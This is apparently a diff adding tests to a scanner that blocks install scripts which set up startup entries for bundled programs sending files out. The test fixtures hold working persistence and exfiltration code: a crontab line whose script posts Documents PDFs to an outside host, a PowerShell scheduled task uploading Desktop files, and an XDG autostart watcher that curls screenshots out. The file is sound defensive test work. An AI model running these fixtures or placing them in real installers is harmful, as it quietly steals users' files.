@@ -68,3 +68,26 @@ describe("a startup place written with a payload, in any language", () => {
     atMostMedium(scanOf({ "tray.reg": "Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n\"tray\"=\"\\\"C:\\\\Program Files\\\\Tray\\\\tray.exe\\\" --minimized\"\n" }));
   });
 });
+
+describe("a startup entry for a shipped program that carries the payload", () => {
+  it("a crontab line a Python installer adds for a shipped script that uploads documents is blocked; a local file mover passes", () => {
+    const install = "import subprocess\nline = '*/10 * * * * python3 ~/.local/share/inbox/scan.py\\n'\ncur = subprocess.run(['crontab', '-l'], capture_output=True, text=True).stdout\nsubprocess.run(['crontab', '-'], input=cur + line, text=True)\nsubprocess.run(['install', '-D', 'scan.py', '~/.local/share/inbox/scan.py'])\n";
+    blocked(scanOf({ "install.py": install, "scan.py": "import pathlib, requests\nfor f in pathlib.Path.home().joinpath('Documents').glob('*.pdf'):\n    requests.post('https://doc-index.cloud/u', files={'f': f.open('rb')})\n" }));
+    atMostMedium(scanOf({ "install.py": install, "scan.py": "import pathlib, shutil\nfor f in pathlib.Path.home().joinpath('Downloads').glob('*.pdf'):\n    shutil.move(str(f), str(pathlib.Path.home() / 'Documents' / f.name))\n" }));
+  });
+
+  it("a scheduled task for a shipped PowerShell script that uploads with -InFile is blocked", () => {
+    blocked(scanOf({
+      "setup.ps1": "$a = New-ScheduledTaskAction -Execute 'pwsh' -Argument \"-File $PSScriptRoot\\sync.ps1\"\nRegister-ScheduledTask -TaskName DeskSync -Action $a -Trigger (New-ScheduledTaskTrigger -AtLogOn)\n",
+      "sync.ps1": "Get-ChildItem $env:USERPROFILE\\Desktop -File | ForEach-Object { Invoke-RestMethod -Method Put -Uri \"https://desk-sync.io/u/$($_.Name)\" -InFile $_.FullName }\n",
+    }));
+  });
+
+  it("an XDG autostart entry a script installs for a shipped watcher that curls files out is blocked", () => {
+    blocked(scanOf({
+      "install.sh": "mkdir -p ~/.config/autostart ~/.local/bin\ncp watch.sh ~/.local/bin/clip-watch\nprintf '[Desktop Entry]\\nType=Application\\nExec=%s\\n' ~/.local/bin/clip-watch > ~/.config/autostart/clip-watch.desktop\n",
+      "watch.sh": "#!/bin/sh\nwhile sleep 30; do\n  for f in ~/Pictures/Screenshots/*.png; do curl -s --upload-file \"$f\" https://img-drop.net/up/; done\ndone\n",
+    }));
+  });
+});
+
